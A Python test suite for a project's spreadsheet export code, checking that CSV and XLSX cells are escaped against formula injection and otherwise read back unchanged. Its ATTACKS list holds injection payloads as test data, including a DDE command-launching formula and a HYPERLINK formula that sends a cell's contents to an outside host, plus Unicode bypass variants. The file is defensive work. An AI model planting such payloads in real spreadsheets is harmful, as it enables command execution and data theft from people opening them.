# SPDX-License-Identifier: EUPL-1.2
"""Cells of spreadsheets: read back as they were written, and never a formula."""

import csv
import io
import tempfile
from datetime import date
from decimal import Decimal
from fractions import Fraction

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from samenspiegel.core.spreadsheet import begins_as_formula, csv_bytes, original, safe
from samenspiegel.web.spreadsheets import download, xlsx_bytes

ATTACKS = [
    "=1+1",
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹣1",
    "−1",
    "'=1+1",
    "''=1+1",
    "=cmd|' /C calc'!A0",
    "|calc",
    '=HYPERLINK("https://example.org/?"&A1;"klik")',
]
TEXTS = st.one_of(
    st.text(max_size=60),
    st.builds(str.__add__, st.text("\t\r\n \u00a0\u200b\ufeff'", max_size=3), st.sampled_from(ATTACKS)),
    st.text("=+-@;,\t\r\n\"' ax1", max_size=20),
)
ROWS = st.lists(st.lists(TEXTS, min_size=1, max_size=4), min_size=1, max_size=5)


def read_csv(written: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(written: bytes) -> list[list[object]]:
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(written)).get_sheet_by_index(0)
    return sheet.to_python(skip_empty_area=False)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_program_would_take_for_a_formula_gets_an_apostrophe(attack: str) -> None:
    assert begins_as_formula(attack.lstrip("'"))
    assert safe(attack).startswith("'")


@pytest.mark.parametrize(
    "plain", ["Jan de Vries", "a=b", "0513 12 34 56", "", "'s-Gravenhage", "(020) 1", "– punt", "1-2"]
)
def test_ordinary_text_stays_as_it_is(plain: str) -> None:
    assert safe(plain) == plain


@given(TEXTS)
def test_no_safe_text_begins_as_a_formula(text: str) -> None:
    assert not begins_as_formula(safe(text))
    assert safe(original(safe(text))) == safe(text)


@given(st.text(st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp"), exclude_characters="\ufffe\uffff")))
def test_what_was_exported_is_brought_back_in_as_it_was(text: str) -> None:
    assert original(safe(text)) == text


@given(ROWS)
def test_every_cell_of_a_csv_is_read_back_in_its_safe_form(rows: list[list[str]]) -> None:
    found = read_csv(csv_bytes(rows))

    assert found == [[safe(text) for text in row] for row in rows]


@given(ROWS)
def test_every_cell_of_an_xlsx_is_read_back_in_its_safe_form(rows: list[list[str]]) -> None:
    found = read_xlsx(xlsx_bytes([["kop"], *rows], sheet="Blad"))

    for row, kept in zip(rows, found[1:] + [[]] * len(rows), strict=False):
        assert [*kept, *[""] * len(row)][: len(row)] == [safe(text) for text in row]


@given(
    st.lists(
        st.integers(-(10**15), 10**15) | st.floats(allow_nan=False, allow_infinity=False, width=32),
        min_size=1,
    )
)
def test_numbers_stay_numbers(numbers: list[int | float]) -> None:
    written = [float(cell.replace(",", ".")) for cell in read_csv(csv_bytes([numbers]))[0]]

    assert written == [float(value) for value in numbers]


def test_numbers_and_dates_are_numbers_and_dates_in_both_kinds_of_file() -> None:
    row = ["naam", -3, Decimal("3.7"), Fraction(1, 2), 1e-7, date(2026, 3, 3), None, float("nan")]

    assert read_csv(csv_bytes([row])) == [["naam", "-3", "3,7", "0,5", "0,0000001", "2026-03-03", "", ""]]
    assert read_xlsx(xlsx_bytes([["kop"], row], sheet="Blad"))[1][:6] == [
        "naam",
        -3,
        3.7,
        0.5,
        1e-7,
        date(2026, 3, 3),
    ]


def test_a_text_that_is_too_long_for_a_cell_is_cut_visibly_and_the_rest_of_the_row_stays() -> None:
    row = ["x" * 40_000, "y"]

    assert read_xlsx(xlsx_bytes([["kop"], row], sheet="Blad"))[1] == ["x" * 32_766 + "…", "y"]


@pytest.mark.parametrize("wrong", [True, b"bytes", ["list"]])
def test_what_is_no_text_number_or_date_is_refused(wrong: object) -> None:
    with pytest.raises(TypeError):
        csv_bytes([[wrong]])  # type: ignore[list-item]
    with pytest.raises(TypeError):
        xlsx_bytes([[wrong]], sheet="Blad")  # type: ignore[list-item]


def test_no_temporary_file_is_made_and_the_same_rows_give_the_same_bytes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a temporary file")

    for name in ("mkstemp", "mkdtemp", "TemporaryFile", "NamedTemporaryFile"):
        monkeypatch.setattr(tempfile, name, refuse)
    rows = [["kop"], *[[f"naam {number}", number] for number in range(50)]]

    assert xlsx_bytes(rows, sheet="Mensen: [alle]/?*") == xlsx_bytes(rows, sheet="Mensen: [alle]/?*")


def test_a_download_is_saved_and_never_kept_or_shown() -> None:
    answer = download([["kop"], ["=1+1"]], name="mensen é", kind="xlsx")

    assert answer["Content-Disposition"] == "attachment; filename*=UTF-8''mensen%20%C3%A9.xlsx"
    assert answer["Cache-Control"] == "no-store"
    assert answer["X-Content-Type-Options"] == "nosniff"
